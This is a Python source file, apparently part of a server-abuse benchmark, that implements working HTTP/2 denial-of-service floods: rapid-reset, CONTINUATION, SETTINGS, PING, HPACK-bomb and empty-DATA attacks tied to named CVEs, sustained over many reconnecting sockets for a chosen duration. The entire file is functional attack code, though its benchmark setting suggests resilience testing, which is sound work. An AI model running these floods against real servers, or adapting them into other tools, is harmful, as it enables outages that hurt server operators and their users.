"""Floods of HTTP/2 frames: ``http2 address= port= host= path= kind= connections= seconds=``.

Kinds: rapid-reset (CVE-2023-44487), continuation (CVE-2024-27316), settings (CVE-2019-9515), ping (CVE-2019-9512),
hpack-bomb (CVE-2016-6581), empty-data (CVE-2019-9518). Each connection begins with an honest request, and comes again
when it is cut. What the server sends is read and thrown away. Prints ``connections`` at the beginning; at the end
``opened``, ``cut``, and ``sent`` (bytes).
"""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable

import hpack

from benchmarks.abuse.clients.speech import arguments, reset, say

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_BLOCK = 1 << 15
"""Bytes that are made and sent at a time."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


class Speaker:
    """One connection's frames: first :attr:`greeting`, then what :meth:`more` gives, without end."""

    def __init__(self, host: str, path: str, kind: str) -> None:
        self._encoder = hpack.Encoder()
        self._stream = 1
        self._fields = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)]
        self.greeting = _PREFACE + frame(_SETTINGS, 0, 0) + self._request()
        self._make: Callable[[], bytes] = {
            "rapid-reset": self._rapid_reset,
            "continuation": self._continuation,
            "settings": lambda: frame(_SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"),
            "ping": lambda: frame(_PING, 0, 0, b"abcdefgh"),
            "hpack-bomb": self._bomb,
            "empty-data": lambda: frame(_DATA, 0, 1),
        }[kind]

    def more(self) -> bytes:
        """Some 32 KiB of the flood."""
        made = bytearray()
        while len(made) < _BLOCK:
            made += self._make()
        return bytes(made)

    def _request(self, *more: tuple[str, str]) -> bytes:
        block = self._encoder.encode([*self._fields, *more])
        made = frame(_HEADERS, _END_STREAM | _END_HEADERS, self._stream, block)
        self._stream += 2
        return made

    def _rapid_reset(self) -> bytes:
        made = self._request()
        return made + frame(_RST, 0, self._stream - 2, (8).to_bytes(4, "big"))

    def _continuation(self) -> bytes:
        """A block without end; the first frame begins it."""
        if self._stream == 3:
            self._stream += 2
            return frame(_HEADERS, _END_STREAM, 3, b"\x82")
        return frame(_CONTINUATION, 0, 3, b"\x00\x01a\x01b")

    def _bomb(self) -> bytes:
        """A large field once, and then a byte each time it is told again, as often as 64 KiB of fields allow."""
        if self._stream == 3:
            return self._request(("x-bomb", "b" * 3000))
        bomb = self._encoder.encode([*self._fields, *[("x-bomb", "b" * 3000)] * 20])
        made = frame(_HEADERS, _END_STREAM | _END_HEADERS, self._stream, bomb)
        self._stream += 2
        return made


class _Flood:
    def __init__(self, address: str, port: int, make: Callable[[], Speaker]) -> None:
        self._where = (address, port)
        self._make = make
        self._epoll = select.epoll()
        self._open: dict[int, tuple[socket.socket, Speaker]] = {}
        self._unsent: dict[int, memoryview] = {}
        self.opened = self.cut = self.sent = 0

    def fill(self, connections: int) -> None:
        while len(self._open) < connections:
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex(self._where)
            speaker = self._make()
            self._open[sock.fileno()] = (sock, speaker)
            self._unsent[sock.fileno()] = memoryview(speaker.greeting)
            self._epoll.register(sock, select.EPOLLIN | select.EPOLLOUT)
            self.opened += 1

    def turn(self) -> None:
        for descriptor, events in self._epoll.poll(0.05):
            sock, speaker = self._open[descriptor]
            try:
                if events & (select.EPOLLERR | select.EPOLLHUP):
                    raise ConnectionError
                if events & select.EPOLLIN and not sock.recv(1 << 16):
                    raise ConnectionError
                if events & select.EPOLLOUT:
                    unsent = self._unsent[descriptor] or memoryview(speaker.more())
                    done = sock.send(unsent)
                    self._unsent[descriptor] = unsent[done:]
                    self.sent += done
            except BlockingIOError:
                continue
            except OSError:
                self.cut += 1
                self._drop(descriptor)

    def _drop(self, descriptor: int) -> None:
        sock, _ = self._open.pop(descriptor)
        del self._unsent[descriptor]
        self._epoll.unregister(sock)
        reset(sock)

    def end(self) -> None:
        for descriptor in list(self._open):
            self._drop(descriptor)


def main(address: str, port: int, host: str, path: str, kind: str, connections: int, seconds: float) -> None:
    """Flood for ``seconds``."""
    flood = _Flood(address, port, lambda: Speaker(host, path, kind))
    flood.fill(connections)
    say(connections=connections)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        flood.turn()
        flood.fill(connections)
    flood.end()
    say(opened=flood.opened, cut=flood.cut, sent=flood.sent)


if __name__ == "__main__":
    _given = arguments()
    main(
        _given["address"],
        int(_given["port"]),
        _given["host"],
        _given["path"],
        _given["kind"],
        int(_given["connections"]),
        float(_given["seconds"]),
    )
